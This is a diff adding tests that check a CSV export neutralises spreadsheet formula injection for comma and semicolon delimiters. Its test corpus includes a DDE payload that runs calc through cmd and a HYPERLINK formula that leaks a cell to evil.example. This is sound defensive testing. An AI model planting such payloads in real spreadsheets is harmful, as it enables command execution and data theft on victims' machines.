@@ -82,6 +82,52 @@ describe('CSV export', () => {
     expect(text.split('\r\n').length).toBe(7); // header, five rows, and the final line end
   });
 
+  /** Cells a spreadsheet would run as a formula (OWASP CSV injection), each exported as text. */
+  const FORMULA_CORPUS = [
+    '=1+1',
+    '+1+1',
+    '@SUM(A1)',
+    '\t=1+1',
+    '\r=1+1',
+    "-2+3+cmd|' /C calc'!A0",
+    '-0+HYPERLINK("https://evil.example/?leak="&B2,"Details")',
+    '-.5+1',
+    '-1e3',
+    '-',
+    '-cmd',
+  ];
+  /** Plain numbers in either decimal mark: they stay numbers. */
+  const PLAIN_NUMBERS = ['-12', '-12.50', '-12,50', '-0.5', '1250.00'];
+
+  describe.each([
+    { name: 'comma-separated', delimiter: ',' as const },
+    { name: 'semicolon-separated', delimiter: ';' as const },
+  ])('$name', ({ delimiter }) => {
+    async function exportCustomers(customers: string[]) {
+      const rows = customers.map((customer, index) => ({ ...invoice(index + 1), customer }));
+      const { blob } = await exportCsv({ columns, delimiter, fetchPage: async () => ({ items: rows, total: rows.length }) });
+      const text = await blob.text();
+      return { text, cells: Papa.parse<string[]>(text, { delimiter, skipEmptyLines: true }).data.slice(1).map((line) => line[1]) };
+    }
+
+    it('defuses every formula, a minus followed by a digit or a dot included', async () => {
+      const { cells } = await exportCustomers(FORMULA_CORPUS);
+      expect(cells).toEqual(FORMULA_CORPUS.map((cell) => `'${cell}`));
+    });
+
+    it('leaves plain numbers as they are', async () => {
+      const { cells } = await exportCustomers(PLAIN_NUMBERS);
+      expect(cells).toEqual(PLAIN_NUMBERS);
+    });
+
+    it('quotes a cell holding either separator, so no spreadsheet splits it into a formula cell', async () => {
+      const { text, cells } = await exportCustomers(['Acme;=1+1', 'Acme,=1+1']);
+      expect(cells).toEqual(['Acme;=1+1', 'Acme,=1+1']);
+      expect(text).toContain('"Acme;=1+1"');
+      expect(text).toContain('"Acme,=1+1"');
+    });
+  });
+
   it.each([1, 10, 500, 1000])('pages of %i rows make the same file', async (perPage) => {
     const server = fakeServer(37);
     const { blob, rows } = await exportCsv({ columns, fetchPage: server.fetchPage, perPage });
